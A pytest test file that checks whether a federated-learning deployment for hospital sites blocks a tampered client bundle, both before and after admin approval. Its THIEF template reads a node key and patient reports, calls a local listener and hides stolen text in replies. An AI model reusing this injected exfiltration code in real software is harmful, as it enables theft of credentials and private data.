"""Which code runs at a site: the server's only if the site's admin says so, and then still behind the policy.

The changed bundle reads the reports: when it is imported, and in training. It notes each in a folder, so that
the test sees what ran, and puts them into its replies.
"""

from __future__ import annotations

import re
import shutil
import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from harness import Federation, Hospitals
from processes import wait_until

pytestmark = pytest.mark.deploy

Make = Callable[..., Federation]

THIEF = """

import socket as _socket
from pathlib import Path as _Path


def _loot(name, take):
    try:
        _Path({loot!r}).mkdir(exist_ok=True)
        _Path({loot!r}, name).write_text(take(), "utf-8")
    except OSError:
        pass


def _call():
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as peer:
        peer.sendall(b"stolen")
    return "called"


_loot("imported", lambda: _Path({reports!r}).read_text("utf-8"))
_loot("key", lambda: _Path({node!r}, "node.key").read_text("utf-8"))
_loot("called", _call)
_honest_train = _train


def _stealing_train(site, *rest):
    text = (site.data / "metadata_unilateral" / "reports.csv").read_text("utf-8")
    _loot("trained", lambda: text)
    reply = _honest_train(site, *rest)
    {theft}
    return reply


_train = _stealing_train
"""
EXTRA_RECORD = 'reply["loot"] = ConfigRecord({"text": text})'
EXTRA_NUMBER = 'reply["metrics"]["loot"] = [float(sign) for sign in text.encode()[:2000]]'
EXTRA_TENSOR = (
    'import numpy as _np\n    reply["arrays"]["fusion.loot"] = '
    "Array(_np.frombuffer(text.encode()[:2000], dtype=_np.uint8).astype(_np.float32))"
)


def changed_app(checkout: Path, folder: Path, **values: object) -> Path:
    """A copy of the project in which the site's app steals; its `train` handler is the same function."""
    ignore = shutil.ignore_patterns(".git", ".venv", "runs", "tests", "__pycache__", "*.egg-info", "docs")
    shutil.copytree(checkout, folder, ignore=ignore)
    app = folder / "client" / "app.py"
    code = app.read_text("utf-8")
    assert " _train)" in code, "the handler looks the function up when it is called"
    app.write_text(code + THIEF.format(**values), encoding="utf-8")
    return folder


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Somebody who waits for what is stolen."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        yield listener


@pytest.mark.parametrize(
    "theft", [EXTRA_RECORD, EXTRA_NUMBER, EXTRA_TENSOR], ids=["record", "number", "tensor"]
)
def test_a_changed_bundle_waits_unread_and_once_approved_sends_nothing_more(
    make_federation: Make,
    hospitals: Hospitals,
    checkout: Path,
    listener: socket.socket,
    tmp_path: Path,
    theft: str,
) -> None:
    federation = make_federation()
    federation.start_server()
    for site in ("A", "B"):
        federation.join(site)
        federation.start_site(site)
    federation.wait_online("A", "B")
    loot = federation.private("A") / "approved"  # where the site's app may write
    federation.app = changed_app(
        checkout,
        tmp_path / "copy",
        loot=str(loot),
        reports=str(hospitals.sites["A"] / "metadata_unilateral" / "reports.csv"),
        node=str(federation.node("A")),
        port=listener.getsockname()[1],
        theft=theft,
    )

    federation.submit("waits", sites=2)
    wait_until(lambda: federation.failure("waits"), 400, "the study fails")
    failure = str(federation.failure("waits"))
    assert "0 sites can take part" in failure, failure
    assert "approve" in failure, failure
    assert not loot.exists(), "code that nobody approved was imported"
    status = federation.try_("climb-site", "status", "--node", federation.node("A")).stdout
    (digest,) = set(re.findall(r"approve ([0-9a-f]{12,64})", status + federation.sites["A"].said()))

    shown = federation.try_("climb-site", "approve", digest, "--diff", "--node", federation.node("A")).stdout
    assert "client/app.py" in shown
    assert not loot.exists(), "showing what differs imported it"
    for site in ("A", "B"):
        federation.ask("climb-site", "approve", digest, "--node", federation.node(site), wanted=0)

    federation.submit("approved", sites=2)
    wait_until(lambda: federation.failure("approved"), 600, "the study fails")
    taken = {name for name in ("imported", "key", "called", "trained") if (loot / name).exists()}
    assert {"imported", "trained"} <= taken, "the approved code should run"
    if "no Landlock" not in federation.sites["A"].said():
        assert taken == {"imported", "trained"}, "the fence should keep the app from the rest"
        with pytest.raises(TimeoutError):
            listener.accept()
    stolen = (loot / "trained").read_text("utf-8").splitlines()[1].split(",", 1)[1]
    failure = str(federation.failure("approved"))
    assert "0 of 2 sites sent a sound reply" in failure, failure
    assert "policy" in failure, failure
    kept = b"".join(path.read_bytes() for path in federation.home.rglob("*") if path.is_file())
    kept += b"".join(path.read_bytes() for path in federation.out("approved").rglob("*") if path.is_file())
    assert b"shared" in kept
    assert stolen.encode() not in kept
    log = federation.ask("climb-site", "audit", "log", "--node", federation.node("A"))
    assert "refused" in log
